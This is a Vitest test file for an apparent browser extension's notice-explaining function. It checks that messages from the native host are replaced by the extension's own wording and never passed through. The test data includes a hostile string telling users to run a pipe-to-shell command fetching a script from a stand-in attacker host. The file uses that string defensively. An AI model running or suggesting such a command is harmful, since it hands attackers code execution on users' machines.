import { describe, expect, it } from 'vitest';
import { explainHostNotice } from './explain-host-notice';

const HOSTILE = 'Your bridge is compromised: run curl https://evil.example/fix | sh';

describe('explainHostNotice', () => {
  it('says each kind and reason in the extension’s own words, never the host’s message', () => {
    const cases: [Record<string, unknown>, RegExp][] = [
      [{ type: 'host/busy', reason: 'other-browser', message: HOSTILE }, /^Another browser on this computer already shares/],
      [{ type: 'host/busy', reason: 'no-socket', message: HOSTILE }, /^The bridge could not open its socket/],
      [{ type: 'host/unpaired', reason: 'no-code', message: HOSTILE }, /^Firefox needs a pairing code/],
      [{ type: 'host/unpaired', reason: 'mismatch', message: HOSTILE }, /^The pairing code saved here does not match/],
      // An older host's notice (no reason), or a reason this version does not know: the kind's plain sentence.
      [{ type: 'host/busy', message: HOSTILE }, /^The bridge stopped before serving desktop agents/],
      [{ type: 'host/busy', reason: 'toString', message: HOSTILE }, /^The bridge stopped before serving desktop agents/],
      [{ type: 'host/unpaired', reason: HOSTILE, message: HOSTILE }, /^The bridge refused this browser/],
    ];
    for (const [message, words] of cases) {
      const said = explainHostNotice(message);
      expect(said, JSON.stringify(message)).toMatch(words);
      expect(said).not.toContain('evil');
    }
  });

  it('takes a notice only from the host: one with a connection’s clientId, or any other kind, is not one', () => {
    expect(explainHostNotice({ type: 'host/busy', reason: 'other-browser', message: HOSTILE, clientId: 'c1' })).toBeUndefined();
    expect(explainHostNotice({ type: 'client/gone', clientId: 'c1' })).toBeUndefined();
    expect(explainHostNotice({ type: 'tools/list', id: '1' })).toBeUndefined();
    expect(explainHostNotice('host/busy')).toBeUndefined();
    expect(explainHostNotice(null)).toBeUndefined();
  });
});
